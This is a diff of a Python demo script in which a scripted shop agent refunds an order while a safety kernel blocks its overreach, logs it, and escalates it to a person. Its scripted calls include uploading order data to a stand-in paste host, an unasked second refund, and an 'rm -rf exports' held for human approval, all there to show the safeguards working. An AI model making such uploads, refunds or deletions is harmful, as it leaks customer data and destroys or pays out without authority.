@@ -1,7 +1,8 @@
 """What does the kernel do for an agent's operator? A small story on real files, told from the log.
 
-An agent tidies a shop's folder. It reads and writes, reaches for a host that it may not reach, meets a tool whose
-contract was changed behind its back, wants to delete what only a person may release, and runs out of budget.
+An agent refunds an order. It reaches for a host that it may not reach, refunds once more than it may, meets a tool
+whose contract was changed behind its back, wants to delete what only a person may release, and runs out of budget.
+Then the order ships all the same: what justified the refund is not true any more, and a person is asked to reverse it.
 """
 
 from __future__ import annotations
@@ -10,18 +11,23 @@ from dataclasses import dataclass
 from pathlib import Path
 
 from sb.config import Config, load_config
+from sb.demo_shop.ledger import Ledger, Order
+from sb.demo_shop.tools import TOOLS, ledger_of
 from sb.kernel.authority.signing import Label
 from sb.kernel.contracts import SafetyClass, ToolArgSchema, ToolResult
+from sb.kernel.recovery.escalations import Standing
 from sb.kernel.run_context import RunBudget, RunContext
 from sb.runtime import Runtime, open_runtime
 
 AGENT = "clerk"
+REFUNDED = 1002  # the order that the story is about
+SHIPPED = f"Then the warehouse ships order {REFUNDED} all the same. Recovery looks:"
 WAITING = {"argv": ["rm", "-rf", "exports"]}  # what the agent asks of a person
-_ORDERS = """order,customer,item,cents,state
-1001,Ada,teapot,2400,shipped
-1002,Grace,lamp,5900,refund asked
-1003,Edsger,chair,8900,open
-"""
+_ORDERS = (
+    Order(1001, "Ada", "teapot", 2400, "shipped"),
+    Order(REFUNDED, "Grace", "lamp", 4900, "refund asked"),
+    Order(1003, "Edsger", "chair", 8900, "open"),
+)
 _NOTES = """# Shop notes
 
 - Grace asked for her refund on Monday.
@@ -29,9 +35,10 @@ _NOTES = """# Shop notes
 """
 _CONFIG = """files:
   roots: [../shop]
+tools: ["sb.demo_shop.tools:register"]
 agents:
   {agent}:
-    tools: [files.list, files.read, files.search, files.write, shell.run, shop.label]
+    tools: [files.read, files.write, orders.read, payments.issue_refund, shell.run, shop.label]
     ceiling: destructive
 """
 
@@ -43,24 +50,32 @@ class Demo:
     Args:
         home: the SB_HOME of the story.
         folder: the shop's files.
-        results: what each call gave, in order.
+        results: what each call of the agent gave, in order.
+        before, shipped_after: the rows of the log that were there before the agent began, and before the order shipped.
     """
 
     run_id: str
     home: Path
     folder: Path
     results: tuple[ToolResult, ...]
+    before: int
+    shipped_after: int
+
+    @property
+    def ledger(self) -> Ledger:
+        """The shop's orders and refunds."""
+        return Ledger(ledger_of(self.home))
 
 
 def prepare(place: Path) -> tuple[Path, Path]:
-    """Make a home with its configuration, and the shop's folder beside it; returns both."""
+    """Make a home with its configuration, and beside it the shop's folder and ledger; returns home and folder."""
     home, folder = place / "home", place / "shop"
     home.mkdir(mode=0o700)
     (folder / "exports").mkdir(parents=True)
-    (folder / "orders.csv").write_text(_ORDERS, encoding="utf-8")
     (folder / "notes.md").write_text(_NOTES, encoding="utf-8")
     (folder / "exports" / "2025.csv").write_text("order,cents\n", encoding="utf-8")
     (home / "config.yaml").write_text(_CONFIG.format(agent=AGENT), encoding="utf-8")
+    Ledger.create(ledger_of(home), _ORDERS)
     return home, folder
 
 
@@ -73,28 +88,44 @@ def play(place: Path) -> Demo:
     """Run the story.
 
     Args:
-        place: an empty folder for the story's home and files.
+        place: an empty folder for the story's home, files and ledger.
 
     Raises:
         SBError: the folder cannot be used.
     """
     home, folder = prepare(place)
-    config = demo_config(home)
-    with open_runtime(config) as runtime:
+    with open_runtime(demo_config(home)) as runtime:
         _register_label_tool(runtime)
-        ctx = RunContext.create(AGENT, intent="tidy the shop's folder", budget=RunBudget(max_tool_calls=6))
+        approve_tools(runtime, (*TOOLS, "shop.label"))
+        before = runtime.log.head().seq
+        ctx = RunContext.create(AGENT, intent="refund what was asked for", budget=RunBudget(max_tool_calls=4))
         with runtime.executor.run(ctx):
             results = tuple(_work(runtime, ctx))
-    return Demo(ctx.run_id, home, folder, results)
+        story = Demo(ctx.run_id, home, folder, results, before, runtime.log.head().seq)
+        story.ledger.ship(REFUNDED)
+        runtime.watch()
+    return story
 
 
-def try_again(story: Demo) -> str:
-    """The agent asks once more for what waited for a person; returns the id of that run."""
+def go_on(story: Demo) -> None:
+    """What follows once a person has decided: the reversal that was approved, and the agent's next attempt."""
     with open_runtime(demo_config(story.home)) as runtime:
+        recovery = runtime.recovery
+        for one in recovery.escalations.page():
+            if one.standing is Standing.APPROVED:
+                recovery.approve(one.id, Label(one.decided_by), one.reason)
         ctx = RunContext.create(AGENT, intent="try again what waited for a person")
         with runtime.executor.run(ctx):
             runtime.executor.execute(ctx, "shell.run", dict(WAITING))
-    return ctx.run_id
+
+
+def approve_tools(runtime: Runtime, tool_ids: tuple[str, ...]) -> None:
+    """Approve these tools' contracts and how they are undone, as the shop's people did when they installed them."""
+    for store in (runtime.baselines, runtime.reversals):
+        store.seen.note_all(runtime.registry)
+        found = store.seen.fingerprints(runtime.registry)
+        shop = {tool_id: found[tool_id] for tool_id in tool_ids if tool_id in found}
+        store.approve(shop, Label("demo"), "the shop works with them")
 
 
 def _register_label_tool(runtime: Runtime) -> None:
@@ -107,23 +138,17 @@ def _register_label_tool(runtime: Runtime) -> None:
             description="Print the address label of one order.",
             args_schema=[ToolArgSchema("order", "integer")],
         )
-    runtime.baselines.seen.note_all(runtime.registry)
-    spec = runtime.registry.get("shop.label")
-    if spec is not None:
-        contract = {spec.tool_id: spec.contract_fingerprint()}
-        runtime.baselines.approve(contract, Label("demo"), "the shop prints its labels with it")
 
 
 def _work(runtime: Runtime, ctx: RunContext) -> list[ToolResult]:
     calls = runtime.executor.execute_batch(
         ctx,
         [
-            ("files.list", {"path": "."}),
-            ("files.read", {"path": "orders.csv"}),
-            ("files.search", {"query": "refund"}),
-            ("files.write", {"path": "summary.md", "content": "Grace (1002) waits for her refund.\n"}),
-            ("files.write", {"path": "notes.md", "content": _NOTES + "- Summary written.\n"}),
-            ("http.get", {"url": "https://paste.example/upload?orders=1001"}),
+            ("orders.read", {"order": REFUNDED}),
+            ("payments.issue_refund", {"order": REFUNDED, "amount": 4900}),
+            ("payments.issue_refund", {"order": 1003, "amount": 8900}),
+            ("files.write", {"path": "summary.md", "content": "Grace (1002) has her refund of 49.00.\n"}),
+            ("http.get", {"url": "https://paste.example/upload?orders=1002"}),
         ],
     )
     spec = runtime.registry.get("shop.label")
